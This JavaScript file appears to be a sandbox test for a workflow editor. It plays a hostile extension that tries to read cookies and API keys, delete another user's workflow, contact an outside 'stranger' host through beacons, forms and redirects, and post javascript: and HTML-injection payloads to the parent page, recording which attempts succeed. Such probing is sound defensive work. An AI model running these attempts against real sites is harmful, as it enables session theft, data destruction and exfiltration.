// A script as a hostile pack would bring it: it tries all that a script can, and notes what it got.
const { site, stranger, other, file } = HOSTILE;
const bare = document.body.appendChild(document.createElement("iframe")).contentWindow; // without our guard
const fetches = [window.fetch, bare.fetch ?? window.fetch];
const here = location.pathname.replace(/\/$/, "");
const got = {};

async function attempt(name, deed) {
  try {
    got[name] = (await deed()) ?? "nothing";
  } catch (error) {
    got[name] = `refused: ${error.name}`;
  }
}

const texts = (address, options) => Promise.all(fetches.map((fetch) => fetch(address, options).then((answer) => answer.text(), () => "refused")));
const statuses = (address, options) => Promise.all(fetches.map((fetch) => fetch(address, options).then((answer) => answer.status, () => "refused")));
const loads = (kind, attributes) =>
  new Promise((resolve) => {
    const element = Object.assign(bare.document.createElement(kind), { onload: () => resolve("loaded"), onerror: () => resolve("refused") });
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    (bare.document.head ?? document.head).append(element);
    setTimeout(() => resolve("refused"), 2000);
  });
const socket = (address) =>
  new Promise((resolve) => {
    const opened = new (bare.WebSocket ?? WebSocket)(address);
    opened.onmessage = ({ data }) => resolve(data);
    opened.onclose = opened.onerror = () => resolve("refused");
  });

// What the browser and the website know.
await attempt("cookie", () => document.cookie + bare.document.cookie || "nothing");
await attempt("page", () => window.parent.document.title);
await attempt("address of the page", () => window.parent.location.href);
await attempt("storage of the page", () => window.parent.localStorage.length);
for (const path of ["/api/v1/me", "/api/v1/keys", "/account/keys", "/fleet", "/fleet/users", "/comfy/api/queue", `/workflows/${other}/graph`])
  await attempt(`website ${path}`, async () => (await texts(site + path, { credentials: "include" })).join());
await attempt("writing to the website", async () => (await statuses(`${site}/api/v1/workflows/${other}`, { method: "DELETE", credentials: "include" })).join());
await attempt("socket of the website", () => socket(`${site.replace("http", "ws")}/comfy/ws`));

// The editor's own origin.
for (const path of ["/api/v1/me", "/account/keys", "/fleet", "/comfy/api/queue", `/workflows/${other}/graph`, `/workflows/${other}/comfy/api/queue`])
  await attempt(`editor ${path}`, async () => (await statuses(path)).join());
const elsewhere = here.replace(/workflows\/[^/]+/, `workflows/${other}`);
await attempt("other workflow", async () => (await statuses(`${elsewhere}/api/history`)).join());
await attempt("socket of the other workflow", () => socket(`${location.origin.replace("http", "ws")}${elsewhere}/ws`));
await attempt("result of the other workflow", async () => (await statuses(`${here}/api/view?filename=${file}`)).join());
await attempt("history", async () => (await texts(`${here}/api/history`)).join());
await attempt("own workflow", async () => (await statuses(`${here}/api/queue`)).join());

await attempt("scripts of the other workflow", async () => (await statuses(`${elsewhere}/extensions/hostile/hostile.js`)).join());
await attempt("scripts of the other workflow at the root", async () => (await statuses("/extensions/hostile/hostile.js", { referrer: `${elsewhere}/` })).join());

// What stays when the page is gone, and what the browser has beside it.
const worker = new URL("worker.js", import.meta.url);
const register = (options) => navigator.serviceWorker.register(worker, options).then(() => "registered");
await fetch(worker); // which leaves it in the browser's cache
await attempt("service worker from the cache", () => register({ updateViaCache: "all" }));
await attempt("service worker", () => register({}));
const features = ["clipboard-read", "camera", "microphone", "display-capture", "geolocation"];
await attempt("features", () => features.filter((name) => document.featurePolicy.allowsFeature(name)).join() || "nothing");

// Other hosts. Browsers answer beacons and frames that they block as if they were sent: the stranger knows better.
await attempt("fetch", async () => (await statuses(`${stranger}/fetch`, { mode: "no-cors" })).join());
await attempt("beacon", () => void bare.navigator.sendBeacon(`${stranger}/beacon`, "x"));
await attempt("frame", () => loads("iframe", { src: `${stranger}/iframe` }).then(() => "nothing"));
for (const [kind, attributes] of [
  ["script", { src: `${stranger}/script` }],
  ["img", { src: `${stranger}/img` }],
  ["link", { rel: "stylesheet", href: `${stranger}/style` }],
  ["link", { rel: "prefetch", href: `${stranger}/prefetch` }],
  ["video", { src: `${stranger}/video` }],
])
  await attempt(`${kind} ${attributes.rel ?? ""}`, () => loads(kind, attributes));
await attempt("code from text", () => (0, eval)("'run'"));
await attempt("form", () => {
  const form = Object.assign(bare.document.createElement("form"), { action: `${stranger}/form`, method: "post", target: "_top" });
  bare.document.body.append(form);
  form.submit();
});
await attempt("window", () => bare.open(`${stranger}/window`) && "opened");
await attempt("window of the website", () => bare.open(`${site}/account`) && "opened");
await attempt("top", () => {
  window.top.location = `${stranger}/top`;
});

// What the page does when it is asked.
const ask = (kind, body) => window.parent.postMessage({ comfyward: kind, ...body }, "*");
ask("open", { address: `${site}/logout` });
ask("open", { address: "javascript:alert(1)" });
ask("save", { workflow: null, prompt: {}, id: 1, path: `/api/v1/workflows/${other}` });
ask("constructor", {});
ask("state", { is: "<img src=x>" });

window.hostile = got;
